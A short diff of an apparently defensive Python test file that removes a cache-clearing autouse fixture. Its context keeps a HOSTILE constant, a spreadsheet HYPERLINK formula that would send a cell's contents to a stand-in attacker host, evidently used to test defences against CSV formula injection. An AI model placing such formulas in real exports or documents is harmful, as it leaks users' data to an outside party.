@@ -22,11 +22,6 @@ EN = {"accept-language": "en"}
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
 
 
-@pytest.fixture(autouse=True)
-def fresh_cache():
-    cache.clear()  # public pages are cached; each test reads what it made
-
-
 @pytest.fixture
 def people():
     return reviewers()
